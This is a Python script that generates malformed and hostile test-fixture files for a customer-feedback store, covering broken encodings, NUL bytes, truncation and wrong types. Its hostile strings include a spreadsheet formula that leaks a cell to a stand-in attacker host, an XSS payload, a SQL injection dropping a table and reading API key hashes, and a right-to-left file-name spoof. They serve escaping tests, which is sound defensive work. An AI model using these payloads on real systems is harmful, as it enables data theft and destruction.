"""Write the bad-input files: one folder per source, every way an export goes wrong.

Each file's exact bytes matter (truncated characters, a GBK line inside UTF-8, NUL bytes,
binary headers), and editors silently "fix" such files, so they are generated here and
committed; a test checks the committed bytes against this script. The large cases (a 50 MB
field, a million-row CSV, extremely long lines) are written by the tests into a temporary
folder instead, so the repository stays small.

    python tests/data/bad/make_bad.py

The hostile strings below must come back from the store exactly as sent (redaction aside,
and none of them holds personal data), and escaped wherever voc renders them.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

HERE = Path(__file__).resolve().parent

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")'
HTML = '<script>alert("pwned")</script><img src=x onerror=alert(1)> <b>bold</b> &amp; done'
SQL = "Robert'); DROP TABLE records;-- OR '1'='1' UNION SELECT secret_hash FROM api_keys"
EMOJI = "Love the app 👍🏽 whole family 👨‍👩‍👧‍👦 uses it 🏳️‍🌈 提现很快 😡"
RTL = "Refund failed \u202eexe.txt\u202c \u200fمرحبا، التطبيق لا يعمل\u200e still broken"
HOSTILE = {"formula": FORMULA, "html": HTML, "sql": SQL, "emoji": EMOJI, "rtl": RTL}
PUNCTUATION = ("!!!???...", "。。。！！？？", "——……")
GOOD = "The withdrawal has been pending for three days and support does not answer."
GOOD_ZH = "提现申请提交三天了还没到账，客服也联系不上。"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))


def _csv(header: list[str], rows: list[list[str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def _jsonl(items: list[object]) -> bytes:
    return "".join(json.dumps(i, ensure_ascii=False) + "\n" for i in items).encode("utf-8")


def _lines(*lines: str) -> bytes:
    return "".join(line + "\n" for line in lines).encode("utf-8")


def _cues(lines: list[str], srt: bool) -> bytes:
    blocks = [] if srt else ["WEBVTT\n"]
    sep = "," if srt else "."
    for n, line in enumerate(lines, 1):
        timing = f"00:00:{n:02d}{sep}000 --> 00:00:{n:02d}{sep}900"
        blocks.append(f"{n}\n{timing}\n{line}\n" if srt else f"{timing}\n{line}\n")
    return "\n".join(blocks).encode("utf-8")


def _mixed(prefix: str, utf8: list[str], gbk: str) -> bytes:
    """UTF-8 lines with one line saved in GBK after the first two."""
    lines = [(prefix + t + "\n").encode("utf-8") for t in utf8]
    lines.insert(2, (prefix + gbk + "\n").encode("gbk"))
    return b"".join(lines)


_TICKET_ROWS = [[f"H-{name}", "", text] for name, text in HOSTILE.items()]
_TICKET_ROWS += [[f"P-{i}", "", p] for i, p in enumerate(PUNCTUATION)]
_TICKETS = [{"id": r[0], "description": r[2]} for r in _TICKET_ROWS]
_REVIEWS = [{"review_id": r[0], "rating": 1, "text": r[2]} for r in _TICKET_ROWS]
_TRUNCATED_JSON = json.dumps(
    [{"id": "T-1", "description": GOOD}, {"id": "T-2", "description": GOOD_ZH}, {"id": "T-3"}],
    ensure_ascii=False,
    indent=1,
).encode("utf-8")
_CALL_LINES = ["Agent: Thanks for calling, how can I help?"]
_CALL_LINES += [f"Customer: {text}" for text in HOSTILE.values()]

FILES: dict[str, bytes] = {
    # --- tickets
    "tickets/empty.csv": b"",
    "tickets/binary.json": PNG,
    "tickets/nul_heavy.csv": b"id,description\n" + b"\x00" * 200,
    "tickets/truncated.json": _TRUNCATED_JSON[: _TRUNCATED_JSON.rindex(b'"T-3"') + 3],
    "tickets/truncated_utf8.csv": _csv(["id", "description"], [["T-1", GOOD], ["T-2", GOOD_ZH]])[
        :-5
    ],
    "tickets/mixed_encoding.csv": b"id,description\n"
    + _mixed("", [f"M-{i},{GOOD_ZH}" for i in range(1, 4)], "M-9,退款太慢了，我很不满意"),
    "tickets/nul.jsonl": _jsonl([{"id": "N-1", "description": "Card\x00 declined\x00 twice"}]),
    "tickets/invalid.jsonl": _lines(
        json.dumps({"id": "J-1", "description": GOOD}),
        '{"id": "J-2", "description": "no closing brace"',
        "not json at all",
        json.dumps({"id": "J-4", "description": GOOD_ZH}, ensure_ascii=False),
        "{'id': 'J-5', 'description': 'single quotes'}",
    ),
    "tickets/wrong_types.json": json.dumps(
        [
            {"id": "W-1", "description": ["a", "list"]},
            {"id": "W-2", "description": {"an": "object"}},
            {"id": "W-3", "description": True},
            {"id": "W-4", "description": 404},
            {"id": ["W-5"], "description": GOOD},
            7,
            None,
            "a bare string",
            {"id": "W-9", "subject": None, "description": None},
        ],
        indent=1,
    ).encode("utf-8"),
    "tickets/hostile.csv": _csv(["id", "subject", "description"], _TICKET_ROWS),
    "tickets/hostile.json": json.dumps(_TICKETS, ensure_ascii=False, indent=1).encode("utf-8"),
    "tickets/hostile.jsonl": _jsonl(_TICKETS),
    # --- reviews
    "reviews/empty.jsonl": b"\n \n\t\n",
    "reviews/binary.csv": b"PK\x03\x04" + bytes(range(256)),
    "reviews/truncated.csv": _csv(
        ["review_id", "rating", "text"], [["R-1", "5", GOOD], ["R-2", "1", GOOD_ZH]]
    )
    + b'R-3,2,"The export stops in the middle of a quoted cell',
    "reviews/mixed_encoding.jsonl": _mixed(
        "",
        [json.dumps({"text": f"{GOOD_ZH}{i}"}, ensure_ascii=False) for i in range(3)],
        json.dumps({"text": "退款太慢了，我很不满意"}, ensure_ascii=False),
    ),
    "reviews/wrong_types.jsonl": _lines(
        json.dumps({"review_id": "W-1", "text": {"body": "nested"}}),
        json.dumps([1, 2, 3]),
        json.dumps({"review_id": "W-3", "text": GOOD, "rating": [5], "created_at": {"d": 1}}),
        json.dumps({"review_id": "W-4", "text": False}),
        json.dumps({"review_id": "W-5", "title": 5}),
    ),
    "reviews/hostile.csv": _csv(
        ["review_id", "rating", "text"], [[r[0], "1", r[2]] for r in _TICKET_ROWS]
    ),
    "reviews/hostile.jsonl": _jsonl(_REVIEWS),
    # --- calls
    "calls/empty.txt": b"",
    "calls/binary.vtt": b"ID3\x04\x00" + bytes(range(256)),
    "calls/truncated.vtt": _cues(["<v Agent>Hello", "<v Customer>My card was declined"], False)
    + b"\n00:00:09.000 --> 00:00:0",
    "calls/truncated_utf8.srt": _cues(["Agent: Hello", f"Customer: {GOOD_ZH}"], True)[:-3],
    "calls/mixed_encoding.txt": _mixed(
        "",
        ["客服：您好，请问有什么可以帮您？", f"客户：{GOOD_ZH}", "客户：还有手续费也不对。"],
        "客户：退款太慢了",
    ),
    "calls/nul.txt": _lines("Agent: Hello", "Customer: the app\x00 crashes\x00 on start"),
    "calls/invalid.json": b'[{"id": "C-1", "turns": [{"speaker": "Customer", "text": "'
    + GOOD.encode()
    + b'"}]}, {"id": "C-2", "turns": [{"speaker": "Customer", "text": "cut',
    "calls/wrong_types.jsonl": _lines(
        json.dumps({"id": "W-1", "turns": "Customer: not a list"}),
        json.dumps({"id": "W-2", "turns": [{"speaker": "Customer", "text": ["a", "list"]}]}),
        json.dumps({"id": "W-3", "turns": [["Customer", "a turn as a list"]]}),
        json.dumps({"id": "W-4"}),
        json.dumps(42),
        json.dumps({"id": "W-6", "turns": [{"speaker": "Customer", "text": GOOD}]}),
    ),
    "calls/hostile.txt": _lines(*_CALL_LINES),
    "calls/hostile.vtt": _cues([f"<v {line.replace(': ', '>', 1)}" for line in _CALL_LINES], False),
    "calls/hostile.srt": _cues(_CALL_LINES, True),
    "calls/hostile.json": json.dumps(
        {
            "id": "C-H",
            "turns": [
                {"speaker": line.split(": ", 1)[0], "text": line.split(": ", 1)[1]}
                for line in _CALL_LINES
            ],
        },
        ensure_ascii=False,
    ).encode("utf-8"),
    "calls/only_punctuation.txt": _lines(
        "Agent: Hello?", "Customer: ！！！？？？", "Customer: ..."
    ),
    # --- interviews
    "interviews/empty.md": b"---\nid: I-0\n---\n\n",
    "interviews/binary.txt": bytes(range(32)) * 8,
    "interviews/truncated_utf8.md": _lines("Q: 你觉得提现体验怎么样？", f"A: {GOOD_ZH}")[:-3],
    "interviews/mixed_encoding.md": _mixed(
        "", ["Q: 您平时怎么用钱包？", "A: 主要用来提现。", f"A: {GOOD_ZH}"], "A: 退款太慢了"
    ),
    "interviews/nul.txt": _lines("Q: How was onboarding?", "A: Slow\x00 and confusing\x00."),
    "interviews/hostile.md": _lines(
        "# Interview", "", "Q: What would you change?", *[f"A: {t}" for t in HOSTILE.values()]
    ),
    "interviews/hostile.txt": _lines(
        "Interviewer: What would you change?", *[f"Participant: {t}" for t in HOSTILE.values()]
    ),
    "interviews/only_punctuation.md": _lines("Q: 还有别的吗？", "A: ……", "A: ！！！"),
}


def main() -> None:
    for name, data in FILES.items():
        path = HERE / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)


if __name__ == "__main__":
    main()
